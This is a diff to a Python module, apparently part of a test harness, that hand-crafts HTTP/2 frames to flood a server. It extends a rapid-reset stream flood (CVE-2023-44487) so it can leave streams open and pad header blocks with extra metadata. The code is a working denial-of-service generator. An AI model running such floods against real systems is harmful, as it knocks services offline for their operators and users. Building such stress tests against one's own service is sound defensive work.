@@ -1,5 +1,5 @@
 """Peers with a certificate that send HTTP/2 frames as fast as the wire takes them: streams that are opened and reset
-(CVE-2023-44487), or whatever else.
+(CVE-2023-44487), or left open, or whatever else.
 Frames by hand: no client library sends them so. Source: RFC 9113, section 4.1; RFC 7541, section 6."""
 
 import contextlib
@@ -113,21 +113,23 @@ class Flood:
 
 
 class Storm(Flood):
-    """Opens streams and resets them."""
+    """Opens streams and resets them, or lets them stand, with so much more of metadata."""
 
-    def __init__(self, target, method, message=None, identity="gateway"):
+    def __init__(self, target, method, message=None, identity="gateway", resets=True, more=b""):
         super().__init__(target, identity=identity)
+        self.resets, self.more = resets, more
         self.path = find_method(target, method)[0]
         self.message = message
 
     def _streams(self):
         for number in itertools.count(1, 2):
             block = headers_first(self.path) if number == 1 else headers_again(self.path)
-            parts = [frame(HEADERS, END_HEADERS, number, block)]
+            parts = [frame(HEADERS, END_HEADERS, number, block + self.more)]
             if self.message is not None:
                 body = b"\0" + struct.pack(">I", len(self.message)) + self.message
                 parts.append(frame(DATA, END_STREAM, number, body))
-            parts.append(frame(RST_STREAM, 0, number, struct.pack(">I", CANCEL)))
+            if self.resets:
+                parts.append(frame(RST_STREAM, 0, number, struct.pack(">I", CANCEL)))
             yield b"".join(parts)
 
     def _chunks(self):
